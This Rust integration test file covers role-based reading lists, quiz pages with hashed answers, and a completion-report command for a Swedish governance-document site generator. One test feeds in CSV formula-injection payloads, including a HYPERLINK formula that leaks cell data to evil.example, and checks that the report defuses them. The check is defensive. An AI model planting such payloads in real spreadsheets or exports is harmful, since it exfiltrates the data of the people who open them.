//! Integration tests for roles, reading lists, training output and
//! `styrdok report` (issue #4), on tests/fixtures/core/base with the
//! tests/fixtures/training/site overlay: a role chain medarbetare ← chef ←
//! ledning, and retired, draft and restricted documents and modules that
//! must stay off every reading list, and whose quizzes must never be written.

use crate::harness::files::{files_containing, read};
use crate::harness::{fixtures, Outcome, TestSite};
use std::fs;
use std::path::{Path, PathBuf};

/// The core base site with the training overlay.
fn site() -> TestSite {
    TestSite::new()
        .fixture("core/base")
        .fixture("training/site")
}

fn built(drafts: bool) -> (TestSite, PathBuf) {
    let s = site();
    s.build_drafts(drafts);
    let out = s.out();
    (s, out)
}

#[test]
fn a_role_reads_everything_of_the_roles_it_includes_transitively() {
    let (_s, out) = built(false);
    let ledning = read(&out, "roller/ledning/index.html");
    // Own module, chef's guideline, medarbetare's policy, rule and module.
    for want in [
        "Ledningens ansvar",
        "Riktlinje för informationssäkerhet",
        "Informationssäkerhetspolicy",
        "Regel för incidenter",
        "Grundkurs",
    ] {
        assert!(ledning.contains(want), "ledning's list lacks {want}");
    }
    // Grouped policy → riktlinjer → regler → utbildning.
    let pos = |s: &str| ledning.find(s).unwrap();
    assert!(pos("id=\"group-policy\"") < pos("id=\"group-guideline\""));
    assert!(pos("id=\"group-guideline\"") < pos("id=\"group-rule\""));
    assert!(pos("id=\"group-rule\"") < pos("id=\"group-module\""));
    // Each item has its status and version.
    assert!(ledning.contains("data-item-id=\"M-2\" data-item-kind=\"module\" data-version=\"3.1\""));
    let medarbetare = read(&out, "roller/medarbetare/index.html");
    assert!(!medarbetare.contains("Ledningens ansvar"));
    let roles = read(&out, "roller/index.html");
    assert!(roles.contains("Ledning") && roles.contains("/roller/ledning/"));
}

#[test]
fn retired_draft_and_restricted_are_on_no_reading_list() {
    for drafts in [false, true] {
        let (_s, out) = built(drafts);
        for role in ["medarbetare", "chef", "ledning"] {
            let list = read(&out, &format!("roller/{role}/index.html"));
            for never in ["RETIREDLIST", "RESTRICTEDLIST", "Begränsad modul"] {
                assert!(
                    !list.contains(never),
                    "{role} lists {never} (drafts: {drafts})"
                );
            }
            // Not even in a --drafts preview: nobody must read a draft.
            assert!(!list.contains("DRAFTLIST"), "{role} lists a draft");
            assert!(!list.contains("Utkastmodul"), "{role} lists a draft module");
        }
        // The retired rule is still readable, on its own page.
        assert!(read(&out, "regler/upphavd/index.html").contains("Upphävd"));
    }
}

#[test]
fn a_document_page_says_which_roles_it_is_for() {
    let (_s, out) = built(false);
    let policy = read(&out, "policy/index.html");
    assert!(policy.contains("Målgrupp"), "roles row");
    assert!(policy.contains("<a href=\"/roller/medarbetare/\">Medarbetare</a>"));
    // The read receipt knows every role whose list holds the page.
    assert!(
        policy.contains("data-readers=\"medarbetare chef ledning\""),
        "receipt readers"
    );
    // A retired document asks for no receipt.
    assert!(!read(&out, "regler/upphavd/index.html").contains("data-receipt"));
}

#[test]
fn quizzes_of_unpublished_modules_are_never_written() {
    let (_s, out) = built(false);
    assert_eq!(
        files_containing(&out, "QUIZDRAFTCANARY"),
        Vec::<String>::new()
    );
    assert_eq!(
        files_containing(&out, "QUIZRESTRICTEDCANARY"),
        Vec::<String>::new()
    );
    let (_s, out) = built(true);
    assert_eq!(
        files_containing(&out, "QUIZRESTRICTEDCANARY"),
        Vec::<String>::new(),
        "restricted never, not even with --drafts"
    );
    assert!(!files_containing(&out, "QUIZDRAFTCANARY").is_empty());
    // The catalogue (here on the certificate page) lists published modules only.
    let cert = read(&out, "utbildning/intyg/index.html");
    assert!(
        cert.contains("\"M-3\""),
        "drafts preview lists the draft module"
    );
    assert!(!cert.contains("\"M-4\""));
}

#[test]
fn a_module_page_embeds_its_quiz_with_hashed_answers_only() {
    let (_s, out) = built(false);
    let page = read(&out, "utbildning/ledning/index.html");
    let start = page.find("class=\"quiz-data\">").unwrap() + "class=\"quiz-data\">".len();
    let end = start + page[start..].find("</script>").unwrap();
    let quiz: serde_json::Value = serde_json::from_str(&page[start..end]).unwrap();
    assert_eq!(quiz["module"], "M-2");
    assert_eq!(quiz["version"], "3.1");
    assert_eq!(quiz["pass_mark"], 50);
    let q = &quiz["questions"][0];
    assert_eq!(q["prompt"], "Vilka <strong>ansvarar</strong>?");
    assert_eq!(q["options"].as_array().unwrap().len(), 3);
    assert!(q.get("correct").is_none() && quiz["questions"][1].get("answer").is_none());
    // The hash is of the correct selection "0,2" under the question's salt.
    use sha2::{Digest, Sha256};
    let salt = q["salt"].as_str().unwrap();
    let digest = Sha256::digest(format!("{salt}:0,2").as_bytes());
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(q["hash"], hex.as_str());
    // Prerequisites and documents are linked; the scripts are external.
    assert!(page.contains("href=\"/utbildning/grundkurs/\""));
    assert!(page.contains("href=\"/policy/\""));
    assert!(page.contains("<script type=\"module\" src=\"/js/training.js\"></script>"));
}

#[test]
fn path_builder_and_certificate_pages_are_written() {
    let (_s, out) = built(false);
    // The base fixture has a content page at utbildning/vag/: it wins.
    assert!(read(&out, "utbildning/vag/index.html").contains("Vägen."));
    let cert = read(&out, "utbildning/intyg/index.html");
    assert!(cert.contains("data-certificate-page") && cert.contains("styrdok-catalog"));
    for js in [
        "quiz-core.js",
        "quiz.js",
        "training.js",
        "pathbuilder.js",
        "certificate.js",
    ] {
        assert!(out.join("js").join(js).is_file(), "js/{js}");
    }
}

#[test]
fn the_training_settings_are_one_module_not_a_copy_in_every_page() {
    let (_s, out) = built(false);
    let module = read(&out, "js/training-config.js");
    let json = module
        .split_once("export default ")
        .and_then(|(_, rest)| rest.trim_end().strip_suffix(';'))
        .expect("an ES module with a default export");
    let config: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(config["root"], "/");
    assert_eq!(config["builder_url"], "/utbildning/vag/");
    assert!(config["roles"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["id"] == "chef"));
    assert!(config["strings"]["tr_receipt_button"].is_string());
    // training.js imports it; pages load training.js only.
    assert!(read(&out, "js/training.js").contains("import config from './training-config.js';"));
    let page = read(&out, "policy/index.html");
    assert!(page.contains("<script type=\"module\" src=\"/js/training.js\"></script>"));
    assert!(
        !page.contains("tr_receipt_button"),
        "the settings are not embedded"
    );
}

fn report(s: &TestSite, csv: &Path, format: &str) -> Outcome {
    s.run(&[
        "report",
        "--completions",
        csv.to_str().unwrap(),
        "--format",
        format,
    ])
}

#[test]
fn report_counts_distinct_passes_per_module_and_unit() {
    let s = site();
    let csv = fixtures().join("training/report/completions.csv");
    let o = report(&s, &csv, "md");
    assert!(o.succeeded(), "{}", o.stderr());
    let md = o.stdout();
    // M-1 (current 1.0): Anna twice (counted once), Bo on 1.1; Cia failed;
    // Dan passed only 0.9 (outdated, flagged).
    assert!(md.contains("| M-1 Grundkurs | 1.0 | 2 | 1 | 1 ! |"), "{md}");
    // M-2 (current 3.1): Eva passed 3.0, which counts; her 2.0 is not flagged.
    assert!(
        md.contains("| M-2 Ledningens ansvar | 3.1 | 1 | 0 | 0 |"),
        "{md}"
    );
    assert!(
        md.contains("| Kommunledningsförvaltningen | 1 | 1 |"),
        "{md}"
    );
    assert!(md.contains("| Socialförvaltningen | 1 | 0 |"), "{md}");
    assert!(md.contains("| M-1 | 0.9 | 1 |"), "{md}");
    assert!(
        md.contains("| R-1 Regel för incidenter | 2.0 | 1 | 1 ! |"),
        "{md}"
    );
    assert!(md.contains("1 upprepade godkännanden"), "{md}");
    assert!(md.contains("M-9"), "unknown ids are named: {md}");
    // The row with passed=maybe is skipped with its line.
    assert!(
        o.stderr()
            .contains("completions.csv:12:1: warning: passed is `maybe`"),
        "{}",
        o.stderr()
    );

    let csv_out = report(&s, &csv, "csv").stdout();
    // Today's eight columns come first, unchanged; the new ones follow.
    assert!(csv_out.starts_with(
        "kind,id,title,current_version,unit,passed_current,not_passed,passed_outdated_only,participants,pass_rate,"
    ));
    assert!(
        csv_out.contains("\nquiz,M-1,Grundkurs,1.0,*,2,1,1,3,66.7,"),
        "{csv_out}"
    );
    assert!(
        csv_out.contains("\nquiz,M-1,Grundkurs,1.0,sof,1,,,2,50.0,"),
        "{csv_out}"
    );
    let html = report(&s, &csv, "html").stdout();
    assert!(html.starts_with("<!doctype html>") && html.contains("<html lang=\"sv\">"));
    assert!(
        html.contains("<th scope=\"row\">M-1 Grundkurs</th><td>1.0</td><td class=\"num\">2</td>"),
        "{html}"
    );
}

/// Per-unit rows follow the order of `units` in site.yaml, not the ids'
/// alphabetical order.
#[test]
fn report_units_follow_site_yaml() {
    let s = site();
    s.edit(
        "site.yaml",
        "  - { id: klf, name: Kommunledningsförvaltningen }\n  - { id: sof, name: Socialförvaltningen }",
        "  - { id: sof, name: Socialförvaltningen }\n  - { id: klf, name: Kommunledningsförvaltningen }",
    );
    let csv = fixtures().join("training/report/completions.csv");
    let md = report(&s, &csv, "md").success().stdout();
    let at = |row: &str| md.find(row).unwrap_or_else(|| panic!("{row}: {md}"));
    assert!(
        at("| Socialförvaltningen | 1 | 0 |") < at("| Kommunledningsförvaltningen | 1 | 1 |"),
        "{md}"
    );
    let out = report(&s, &csv, "csv").success().stdout();
    let units: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("quiz,M-1,"))
        .map(|l| l.split(',').nth(4).unwrap())
        .collect();
    assert_eq!(units, ["*", "sof", "klf"], "{out}");
}

/// Units and versions from the export that a spreadsheet would run as
/// formulas reach the CSV and Markdown reports as text (OWASP: a leading
/// `'`); the HTML report escapes them.
#[test]
fn report_writes_no_formulas() {
    let s = site();
    let export = fixtures().join("training/report/formulas.csv");
    let o = report(&s, &export, "csv");
    assert!(o.succeeded(), "{}", o.stderr());
    let csv = o.stdout();
    for cell in [
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
        ",'+1+1,",
        ",'@SUM(1),",
        ",'-2+3,",
        // Leading white space (a tab, a CR) is trimmed when read: what
        // follows is defused.
        ",'=1+2,",
        ",'@X,",
    ] {
        assert!(csv.contains(cell), "{cell:?} in {csv}");
    }
    // No field of any record starts with a formula character.
    for record in csv.lines() {
        for field in record.split(',') {
            let field = field.trim_start_matches('"');
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t']),
                "{field:?} in {record:?}"
            );
        }
    }
    let md = report(&s, &export, "md").stdout();
    for cell in [
        "| '+1+1 |",
        "| '@SUM(1) |",
        "| '-2+3 |",
        "| '=1+2 |",
        "| '@X |",
    ] {
        assert!(md.contains(cell), "{cell:?} in {md}");
    }
    assert!(
        // `&` as an entity: Markdown cells are text, never HTML.
        md.contains("| '=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"x\") |"),
        "{md}"
    );
    assert!(
        !md.contains("| =") && !md.contains("| +") && !md.contains("| @"),
        "{md}"
    );
    let html = report(&s, &export, "html").stdout();
    assert!(
        html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)"),
        "{html}"
    );
}

#[test]
fn report_exit_codes() {
    let s = site();
    let missing = report(&s, &s.root().join("nope.csv"), "md");
    assert_eq!(missing.code(), Some(2), "{}", missing.stderr());
    let bad = s.root().join("bad.csv");
    fs::write(
        &bad,
        "kind,id,version,passed,email\nquiz,M-1,1.0,true,\"open\n",
    )
    .unwrap();
    let o = report(&s, &bad, "md");
    assert_eq!(o.code(), Some(1));
    assert!(
        o.stderr()
            .contains("bad.csv:2:1: error: a quoted field is never closed"),
        "{}",
        o.stderr()
    );
    fs::write(&bad, "kind,id\nquiz,M-1\n").unwrap();
    let o = report(&s, &bad, "md");
    assert_eq!(o.code(), Some(1));
    assert!(
        o.stderr()
            .contains("lacks the column(s) version, passed, email or name"),
        "{}",
        o.stderr()
    );
    let o = report(&s, &bad, "pdf");
    assert_eq!(o.code(), Some(2));
}

#[test]
fn a_theme_can_restyle_every_list_entry_and_a_broken_one_fails_the_build() {
    let (s, out) = built(false);
    let before = fs::read(out.join("roller/chef/index.html")).unwrap();
    let item = s.root().join("themes/default/templates/item.html");
    fs::create_dir_all(item.parent().unwrap()).unwrap();

    // An override of item.html is what reading lists (and every other
    // list of pages) show.
    fs::write(
        &item,
        "<li class=\"mine\">{{ item.id }}: {{ item.title }}</li>",
    )
    .unwrap();
    let o = s.run(&["build"]);
    assert!(o.succeeded(), "{}", o.stderr());
    let list = read(&out, "roller/chef/index.html");
    assert!(list.contains("<li class=\"mine\">"), "{list}");
    assert!(!list.contains("class=\"item-title\""));
    assert!(read(&out, "regler/index.html").contains("<li class=\"mine\">"));

    // A broken one names the template and keeps the last good output.
    fs::write(&item, "<li>{{ item.no_such_field }}</li>").unwrap();
    let good = fs::read(out.join("roller/chef/index.html")).unwrap();
    assert_ne!(good, before);
    let o = s.run(&["build"]);
    assert!(!o.succeeded());
    assert!(o.stderr().contains("item.html"), "{}", o.stderr());
    assert_eq!(fs::read(out.join("roller/chef/index.html")).unwrap(), good);
}
